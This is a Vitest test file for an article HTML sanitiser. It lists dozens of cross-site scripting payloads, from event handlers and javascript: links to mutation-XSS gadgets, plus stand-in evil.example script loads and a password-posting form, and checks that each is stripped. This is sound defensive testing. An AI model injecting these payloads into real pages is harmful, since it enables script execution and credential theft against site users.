// @vitest-environment jsdom
import { expect, test } from 'vitest';
import { ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, ALLOWED_ROLES } from '../../../src/sanitising/allowed-markup.ts';
import { sanitiseArticle, sanitiseToHtml } from '../../../src/sanitising/sanitise-article.ts';

/** One of each class of payload that the public lists know; `x()` stands for the attack. */
const PAYLOADS: [threat: string, html: string][] = [
  ['script element', '<script>x()</script>'],
  ['script in pieces', '<scr<script>ipt>x()</scr</script>ipt>'],
  ['script with a slash for a space', '<script/x>x()</script>'],
  ['script from elsewhere', '<script src=//evil.example/x.js></script>'],
  ['module script', '<script type=module>x()</script>'],
  ['event handler', '<img src=x onerror=x()>'],
  ['event handler without quotes or spaces', '<img/src/onerror=x()>'],
  ['event handler after a new line', '<img src=x\nonerror\n=\nx()>'],
  ['event handler in capitals', '<IMG SRC=x OnErRoR=x()>'],
  ['event handler of an animation', '<p style="animation:a" onanimationstart=x()>a'],
  ['event handler with autofocus', '<input autofocus onfocus=x()>'],
  ['event handler of details', '<details open ontoggle=x()>a</details>'],
  ['event handler of a body', '<body onload=x()>a'],
  ['event handler of marquee', '<marquee onstart=x()>a</marquee>'],
  ['event handler of a video source', '<video><source onerror=x()></video>'],
  ['event handler on an unknown element', '<x-y onclick=x()>a</x-y>'],
  ['popover', '<button popovertarget=p>a</button><p popover id=p onbeforetoggle=x()>a'],
  ['javascript link', '<a href=javascript:x()>a</a>'],
  ['javascript link with entities', '<a href="&#106;avascript&colon;x()">a</a>'],
  ['javascript link with control characters', '<a href="\u0001java\tscr\nipt:x()">a</a>'],
  ['vbscript link', '<a href=vbscript:x()>a</a>'],
  ['data link', '<a href="data:text/html,<script>x()</script>">a</a>'],
  ['link to a blob of the page', '<a href="blob:https://evil.example/1">a</a>'],
  ['link to a file', '<a href=file:///etc/passwd>a</a>'],
  ['link to the browser', '<a href=chrome://settings>a</a><a href=moz-extension://1/x>a</a><a href=about:blank>a</a>'],
  ['link by filesystem', '<a href=filesystem:https://evil.example/x>a</a>'],
  ['link of an image map', '<map name=m><area href=javascript:x()></map><img usemap=#m src=x>'],
  ['link in MathML', '<math><mi href=javascript:x() xlink:href=javascript:x()>a</mi></math>'],
  ['MathML action', '<math><maction actiontype=statusline xlink:href=javascript:x()>a</maction></math>'],
  [
    'MathML annotation',
    '<math><semantics><annotation-xml encoding=text/html><img src=x onerror=x()></annotation-xml></semantics></math>',
  ],
  ['SVG onload', '<svg onload=x()><circle r=9></svg>'],
  ['SVG script', '<svg><script>x()</script></svg>'],
  ['SVG animation', '<svg><a><animate attributeName=href values=javascript:x() /><text>a</text></a></svg>'],
  ['SVG use', '<svg><use href="data:image/svg+xml,<svg id=x onload=x()>#x"/></svg>'],
  ['SVG foreign object', '<svg><foreignObject><img src=x onerror=x()></foreignObject></svg>'],
  ['mutation: style in SVG', '<svg></p><style><a id="</style><img src=1 onerror=x()>">'],
  [
    'mutation: MathML and table',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
  ],
  ['mutation: nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>'],
  ['mutation: noscript', '<noscript><p title="</noscript><img src=x onerror=x()>">'],
  ['mutation: template', '<template><img src=x onerror=x()></template>'],
  ['mutation: comment', '<!--><img src=x onerror=x()>-->'],
  ['mutation: xmp', '<xmp><p title="</xmp><img src=x onerror=x()>">'],
  ['mutation: textarea', '<textarea><p title="</textarea><img src=x onerror=x()>"></textarea>'],
  ['mutation: select', '<select><template><img src=x onerror=x()></template></select>'],
  ['mutation: CDATA', '<svg><![CDATA[><img src=x onerror=x()>]]></svg>'],
  ['mutation: plaintext', '<plaintext><img src=x onerror=x()>'],
  ['declarative shadow root', '<div><template shadowrootmode=open><img src=x onerror=x()></template></div>'],
  ['frame', '<iframe src=javascript:x()></iframe>'],
  ['frame with its own document', '<iframe srcdoc="<script>x()</script>"></iframe>'],
  ['frame of a look-alike', '<iframe src="https://youtube.com.evil.example/embed/1"></iframe>'],
  ['frame set', '<frameset><frame src=javascript:x()></frameset>'],
  ['object, embed, applet', '<object data=javascript:x()></object><embed src=javascript:x()><applet code=x></applet>'],
  [
    'form',
    '<form action=https://evil.example/><input type=password name=p><button formaction=javascript:x()>a</button></form>',
  ],
  ['is attribute', '<p is=x-y>a</p>'],
  ['base', '<base href=https://evil.example/>'],
  ['redirect', '<meta http-equiv=refresh content="0;url=javascript:x()">'],
  ['policy', '<meta http-equiv=Content-Security-Policy content="default-src *">'],
  ['style element', '<style>@import url(https://evil.example/x.css)</style>'],
  ['style sheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/)">a</p>'],
  ['background attribute', '<table background=https://evil.example/x.png><td background=x>a</td></table>'],
  [
    'beacons',
    '<img srcset="https://evil.example/1 1x"><video poster=https://evil.example/2></video><a ping=https://evil.example/3 href=https://a.example/>a</a>',
  ],
  ['clobbering by id', '<img id=location><p id=__proto__>a</p><p id=body>b</p>'],
  ['clobbering by name', '<a name=document></a><img name=cookie><form name=forms></form>'],
  [
    'referrer',
    '<img referrerpolicy=unsafe-url src=https://a.example/x.png><a referrerpolicy=unsafe-url rel=opener href=https://a.example/>a</a>',
  ],
  ['content editable and access keys', '<p contenteditable accesskey=x tabindex=1 slot=s part=p nonce=n>a</p>'],
  ['posing as a control', '<p role=alertdialog aria-modal=true aria-label="Your password">a</p>'],
  [
    'picture that is a script',
    '<img src=javascript:x()><img src="data:text/html,<script>x()</script>"><img src=file:///x.png>',
  ],
  ['NUL and broken entities', '<p\u0000 onclick=x()>a&#0;&#x110000;</p>'],
];

const ELEMENTS = new Set<string>(ALLOWED_ELEMENTS);
const ATTRIBUTES = new Set<string>([...ALLOWED_ATTRIBUTES, 'target', 'rel', 'referrerpolicy']);

/** Everything about a tree that is not on the lists. */
function breaches(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const found = ELEMENTS.has(element.localName) ? [] : [element.localName];
    for (const { name, value } of element.attributes) {
      const wrongLink = name === 'href' && !/^(?:https?:\/\/|mailto:|#in-)/.test(value);
      const wrongPicture = name === 'src' && !/^(?:https?:\/\/|blob:|data:image\/)/.test(value);
      const wrongId = name === 'id' && !value.startsWith('in-');
      const wrongRole = name === 'role' && !ALLOWED_ROLES.includes(value);
      if (!ATTRIBUTES.has(name) || wrongLink || wrongPicture || wrongId || wrongRole) found.push(`${name}=${value}`);
    }
    return found;
  });
}

test.each(PAYLOADS)('%s', (_, payload) => {
  const { html, body } = sanitiseToHtml(`<p>before</p>${payload}`);
  expect(breaches(body)).toEqual([]);
  // Written out and parsed again, as a saved article is, it still holds nothing that is not on the lists.
  const reparsed = new DOMParser().parseFromString(`<div>${html}</div>`, 'text/html').body;
  expect(breaches(reparsed)).toEqual([]);
  expect(body.querySelector('p')?.textContent).toBe('before');
});

test('a link that is removed leaves its text', () => {
  expect(sanitiseToHtml('<a href="javascript:x()">read <b>this</b></a>').html).toBe('<a>read <b>this</b></a>');
});

test('a saved article requests nothing: addresses of pictures on the web are in data-src, and data: pictures stay', () => {
  const kept = '<img src="data:image/png;base64,AAAA">';
  const fragment = sanitiseArticle(`<img src="https://a.example/x.png" alt="b">${kept}`, { network: 'none' });
  const box = document.createElement('div');
  box.append(fragment);
  expect(box.innerHTML).toBe(`<img alt="b" data-src="https://a.example/x.png">${kept}`);
});

test('elements that articles need are kept', () => {
  const article = [
    '<h2 id="in-a">t</h2><p lang="ja" dir="rtl">a<sub>1</sub><sup>2</sup><bdi>b</bdi><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></p>',
    '<ol start="3" type="a" reversed=""><li value="7">b</li></ol><dl><dt>c</dt><dd>d</dd></dl>',
    '<table><caption>e</caption><thead><tr><th scope="col" colspan="2" id="in-h">f</th></tr></thead>',
    '<tbody><tr><td rowspan="2" headers="in-h">g</td></tr></tbody></table>',
    '<details open=""><summary>h</summary><p>i</p></details><blockquote cite="https://a.example/"><p>j</p></blockquote>',
    '<pre><code class="language-c++">k</code></pre><figure><img src="https://a.example/l.png" alt="l" width="2" height="1">',
    '<figcaption>m</figcaption></figure><math display="block" data-tex="\\frac{1}{2}"><mfrac><mn>1</mn><mn>2</mn></mfrac></math>',
    '<p class="align-center">n<a href="#in-a" role="doc-noteref">o</a><time datetime="2022-08-06">p</time><kbd>q</kbd></p>',
  ].join('');
  expect(sanitiseToHtml(article).html).toBe(article);
});
